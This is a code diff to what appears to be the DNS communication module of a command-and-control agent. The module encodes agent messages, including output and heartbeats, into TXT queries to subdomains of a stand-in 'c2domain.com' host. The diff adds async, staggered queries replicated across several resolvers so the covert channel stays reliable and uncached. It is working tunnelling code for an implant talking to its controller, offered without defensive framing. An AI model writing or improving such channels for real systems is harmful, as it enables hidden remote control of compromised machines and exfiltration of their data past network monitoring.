@@ -6,29 +6,56 @@ Supports sending messages via DNS queries, but command polling and heartbeats ar
 """
 #!/usr/bin/env python3
 
+import asyncio
+import dns.asyncquery
 import dns.message
-import dns.query
 from ..logger import logger
 from base import BaseComm
 
+# Start offsets (seconds) for replicated queries: primary at T+0, backups at +200ms/+300ms.
+# Resolvers beyond the listed offsets are started 100ms apart after the last one.
+STAGGER_DELAYS = (0.0, 0.2, 0.3)
+
+# Per-resolver timeout for a single UDP query
+QUERY_TIMEOUT = 3
+
+
+def _stagger_delay(index: int) -> float:
+    """
+    Returns the start offset for the resolver at position `index`.
+
+    Args:
+        index (int): Position of the resolver in the replication list.
+
+    Returns:
+        float: Delay in seconds before the query to that resolver is sent.
+    """
+    if index < len(STAGGER_DELAYS):
+        return STAGGER_DELAYS[index]
+    return STAGGER_DELAYS[-1] + 0.1 * (index - len(STAGGER_DELAYS) + 1)
+
+
 class DNSComm(BaseComm):
     """
     Implements DNS-based communication for the agent.
     """
-    def __init__(self, dns_server_ip: str, agent_id: str, auth_token: str):
+    def __init__(self, dns_server_ip: str, agent_id: str, auth_token: str, resolvers=None):
         """
         Initializes the DNS communication module.
 
         Args:
-            dns_server_ip (str): The IP address of the DNS server.
+            dns_server_ip (str): The IP address of the primary DNS server.
             agent_id (str): The unique identifier of the agent.
             auth_token (str): Authentication token for secure communication.
+            resolvers (list, optional): Additional resolver IPs that receive replicated queries.
         """
         self.dns_server_ip = dns_server_ip
+        # Primary resolver first, followed by de-duplicated backups
+        self.resolvers = [dns_server_ip] + [r for r in (resolvers or []) if r != dns_server_ip]
         self.agent_id = agent_id
         self.auth_token = auth_token
 
-    def poll_commands(self):
+    async def poll_commands(self) -> list:
         """
         Polls for commands via DNS TXT queries.
 
@@ -38,29 +65,86 @@ class DNSComm(BaseComm):
         logger.info("DNS poll_commands not implemented")
         return []
 
-    def send_message(self, message: str) -> str:
+    async def _query_with_delay(self, query, resolver: str, delay: float):
         """
-        Sends a message encoded as a DNS query.
+        Sends `query` to a single resolver after an optional head start for earlier resolvers.
+
+        Args:
+            query (dns.message.Message): The prepared DNS query.
+            resolver (str): The IP address of the resolver to query.
+            delay (float): Seconds to wait before sending (staggered backup request).
+
+        Returns:
+            dns.message.Message: The resolver's response.
+        """
+        if delay:
+            await asyncio.sleep(delay)
+        return await dns.asyncquery.udp(query, resolver, timeout=QUERY_TIMEOUT)
+
+    async def _resolve(self, message: str):
+        """
+        Resolves `message` as a TXT query replicated across all configured resolvers.
+
+        The same query is dispatched to every resolver with staggered start times; the
+        first answer carrying a TXT record wins and the remaining requests are cancelled,
+        so a single lost UDP packet no longer stalls the agent for the full timeout.
+        Replies without a TXT record (NXDOMAIN, empty or filtered answers) do not end the
+        race; an empty answer is returned only once every resolver has replied.
 
         Args:
             message (str): The message to send.
 
         Returns:
-            str: The response received via DNS TXT record, or an empty string if an error occurs.
+            str: The decoded TXT answer, or an empty string if none was received.
         """
+        domain = f"{message}.{self.agent_id}.c2domain.com"
+        tasks = []
         try:
-            domain = f"{message}.{self.agent_id}.c2domain.com"
             query = dns.message.make_query(domain, dns.rdatatype.TXT)
-            response = dns.query.udp(query, self.dns_server_ip, timeout=2)
-            for answer in response.answer:
-                for item in answer.items:
-                    if hasattr(item, "strings"):
-                        return b" ".join(item.strings).decode()
+            tasks = [
+                asyncio.create_task(self._query_with_delay(query, resolver, _stagger_delay(index)))
+                for index, resolver in enumerate(self.resolvers)
+            ]
+            pending = set(tasks)
+            replied = False
+            while pending:
+                done, pending = await asyncio.wait(pending, return_when=asyncio.FIRST_COMPLETED)
+                for task in done:
+                    if task.exception() is not None:
+                        logger.debug("DNS resolver query failed: %s", task.exception())
+                        continue
+                    replied = True
+                    for answer in task.result().answer:
+                        for item in answer.items:
+                            if hasattr(item, "strings"):
+                                return b" ".join(item.strings).decode()
+            if not replied:
+                logger.error("DNS send_message error: no resolver answered for %s", domain)
         except Exception as e:
             logger.error("DNS send_message error: %s", e)
+        finally:
+            # Cancel the slower replicas once an answer has been received
+            for task in tasks:
+                task.cancel()
         return ""
 
-    def heartbeat(self):
+    async def send_message(self, message: str) -> str:
+        """
+        Sends a message encoded as a DNS query.
+
+        Every call reaches the server: messages carry agent data (heartbeats, output),
+        so answers are never served from a cache and concurrent sends of the same
+        message are never merged into one query.
+
+        Args:
+            message (str): The message to send.
+
+        Returns:
+            str: The response received via DNS TXT record, or an empty string if an error occurs.
+        """
+        return await self._resolve(message)
+
+    async def heartbeat(self):
         """
         Sends a heartbeat signal via DNS.
         Currently not implemented.